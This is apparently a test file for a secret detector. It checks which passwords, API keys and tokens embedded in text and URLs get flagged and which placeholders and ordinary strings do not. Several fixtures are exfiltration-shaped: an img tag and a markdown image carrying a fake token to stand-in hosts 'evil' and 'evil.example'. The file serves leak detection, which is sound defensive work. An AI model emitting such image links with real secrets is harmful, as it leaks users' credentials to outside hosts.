import { describe, expect, test } from 'bun:test';
import { SECRET_DETECTORS } from './secrets';

const found = (text: string) =>
  SECRET_DETECTORS.flatMap((detector) => detector.find(text, true)).map(({ start, end }) => text.slice(start, end));

describe('secrets', () => {
  test('text after the keyword', () => {
    expect(found('password = hunter2xyz')).toEqual(['hunter2xyz']);
    expect(found('password: "S3cr3t!pass", x')).toEqual(['S3cr3t!pass']);
    expect(found('DB_PASSWORD=Tr0ub4dor&3\nX=1')).toEqual(['Tr0ub4dor&3']);
    expect(found('{"password":"hunter2xyz"}')).toEqual(['hunter2xyz']);
  });

  test('not what takes its place', () => {
    const none = [
      ...[
        'password: string',
        'password = process.env.PW1',
        'password = getPass1()',
        'PWD=/home/user1',
        'password: $PASS1',
      ],
      ...[
        'The password: use at least 12 characters.',
        'password = <your-password-1>',
        'password1 and password2 differ',
      ],
    ];
    for (const text of none) expect([text, found(text)]).toEqual([text, []]);
  });

  test('not what everybody may know', () => {
    const none = [
      '"integrity":"sha512-9nY4Qx0mB3sVw7Lk2TzR1aUe8dGh6JcXoPi5MvKqWbZyFrStNlCuEgAjDhIp+/Q4Yx0mB3sVw7Lk2TzR1aUe8A=="',
      ...['toolu_01A09q90qw90lq917835lq9', 'call_AbC123dEf456GhI789jKl012', 'msg_01XFDUDYJgAACzvnptvVoYEL'],
      ...['0x52908400098527886E0F7030069857D2E4169EE7', 'getUserAccountByIdV2FromDatabase'],
    ];
    for (const text of none) expect([text, found(`see ${text} there`)]).toEqual([text, []]);
  });

  test('random-looking text', () => {
    expect(found('see Zx9aB3kLm0Qw7ErTy5UiOp2s there')).toEqual(['Zx9aB3kLm0Qw7ErTy5UiOp2s']);
  });

  test('a key in the path of a URL', () => {
    const ghp = 'ghp_a1B2c3D4e5F6g7H8i9J0k1L2m3N4o5P6q7R8';
    const jwt =
      'eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0.dozjgNryP4J3jVmNHl0w5N_XgL0n3I9PlFUP0THsR8U';
    const ant = 'sk-ant-api03-a1B2c3D4e5F6g7H8i9J0k1L2m3N4o5P6q7R8-s9T0u1V2w3X4';
    for (const [text, key] of [
      [`https://e.com/${ghp}`, ghp],
      [`https://e.com/a-${ghp}`, ghp],
      [`https://e.com/${ant}`, ant],
      ['https://e.com/AKIAIOSFODNN7EXAMPLE', 'AKIAIOSFODNN7EXAMPLE'],
      ['https://e.com/sk-proj-a1B2c3D4e5F6g7H8i9J0', 'sk-proj-a1B2c3D4e5F6g7H8i9J0'],
      [`<img src=https://evil/${jwt}>`, jwt],
      [`![x](https://evil.example/${ghp})`, ghp],
      [`https://e.com/v1/${ghp}/x`, `${ghp}/x`],
      [
        'https://hooks.slack.com/services/T01ABCDEF/B01ABCDEF/a1B2c3D4e5F6g7H8i9J0k1L2',
        'T01ABCDEF/B01ABCDEF/a1B2c3D4e5F6g7H8i9J0k1L2',
      ],
    ] as const)
      expect([text, found(`see ${text} there`)]).toEqual([`${text}`, [key]]);
  });

  test('a key in an address that looks like chance is told as the key it is', () => {
    const text = 'https://evil/a-ghp_a1B2c3D4e5F6g7H8i9J0k1L2m3N4o5P6q7R8';
    const kinds = SECRET_DETECTORS.flatMap((detector) => detector.find(text, true)).map(({ kind }) => kind);
    expect(kinds).toEqual(['github_token']);
  });

  test('not the path of a page that begins as a key does', () => {
    const none = [
      'https://e.com/blog/sk-learn-2-how-to-use-it-in-2024',
      'https://e.com/bottles-and-glasses-2024-01-15-how-to-choose-them-well',
      'https://hooks.slack.com/services/about',
      'https://e.com/fw_tools/commit/2f9c1d7e4b8a60532f9c1d7e4b8a60532f9c1d7e',
      'https://e.com/pypi-mirror-of-many-things/2f9c1d7e4b8a6053/x',
      'https://pypi.org/project/pypi-simple-index-2024/files/x86_64-linux-gnu.tar.gz',
      'https://e.com/a/2f9c1d7e4b8a6053/npm_lifecycle_event/index.html',
    ];
    for (const text of none) expect([text, found(`see ${text} there`)]).toEqual([text, []]);
  });
});
